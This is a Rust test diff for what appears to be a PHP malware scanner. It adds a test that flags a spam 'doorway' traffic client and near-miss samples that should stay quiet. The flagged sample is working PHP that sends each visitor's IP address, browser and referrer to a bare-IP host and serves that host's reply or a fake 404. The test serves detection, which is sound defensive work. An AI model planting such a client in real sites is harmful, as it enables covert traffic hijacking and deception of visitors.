@@ -5,7 +5,7 @@ use crate::php;
 
 fn found(src: &str) -> Vec<Why> {
     let t = php::tokenize_for_test(src.as_bytes(), 100_000);
-    let families = super::Families { site_pages: true, template_pages: false };
+    let families = super::Families { site_pages: true, template_pages: false, fetches: true };
     super::analyze(src.as_bytes(), &t, super::Options { small: t.len() < 400 }, families)
         .into_iter()
         .map(|s| s.why)
@@ -157,7 +157,8 @@ fn the_fixtures_are_found() {
 
 fn printed_remote(src: &str) -> Option<usize> {
     let t = php::tokenize_for_test(src.as_bytes(), 100_000);
-    let families = super::Families { site_pages: false, template_pages: super::may_print_remote(src.as_bytes()) };
+    let families =
+        super::Families { site_pages: false, template_pages: super::may_print_remote(src.as_bytes()), fetches: false };
     let found = super::analyze(src.as_bytes(), &t, super::Options::default(), families);
     found.iter().find(|s| s.why == Why::PrintsRemoteContent).map(|s| s.at)
 }
@@ -204,4 +205,24 @@ fn many_fetches_of_one_address_read_its_value_once() {
     super::VALUE_READS.with(|c| c.set(0));
     assert_eq!(printed_remote(&src), None);
     assert_eq!(super::VALUE_READS.with(|c| c.get()), 1);
+}
+
+#[test]
+fn a_page_a_bare_ip_picks_by_the_visitor_is_a_doorway() {
+    // fresh19's traffic client: the visitor's address, browser and referrer sent to a server
+    // known only by its number, and its answer served (a download, a page, or a fake 404).
+    let client = "<?php $remote = 'http://198.51.100.24/request12.php'; \
+                  $q = array('ip' => $_SERVER['REMOTE_ADDR'], 'ua' => $_SERVER['HTTP_USER_AGENT'], 'ref' => @$_SERVER['HTTP_REFERER']); \
+                  $page = @file_get_contents($remote . '?' . http_build_query($q)); \
+                  if (empty($page)) { header('HTTP/1.1 404 Not Found'); exit; } echo $page;";
+    assert_eq!(found(client), [Why::SpamDoorway]);
+    // Near-misses: a named geo service, a bare IP fetched knowing nothing of the visitor, and
+    // the machine's own address.
+    for quiet in [
+        "<?php $g = file_get_contents('https://geo.example.com/json/' . $_SERVER['REMOTE_ADDR'] . '?ua=' . urlencode($_SERVER['HTTP_USER_AGENT'])); echo $g;",
+        "<?php $s = file_get_contents('http://198.51.100.24/status.txt'); echo $s; echo $_SERVER['REMOTE_ADDR'];",
+        "<?php $r = file_get_contents('http://127.0.0.1:8080/?ip=' . $_SERVER['REMOTE_ADDR'] . '&ua=' . $_SERVER['HTTP_USER_AGENT']); echo $r;",
+    ] {
+        assert!(found(quiet).is_empty(), "{quiet}: {:?}", found(quiet));
+    }
 }
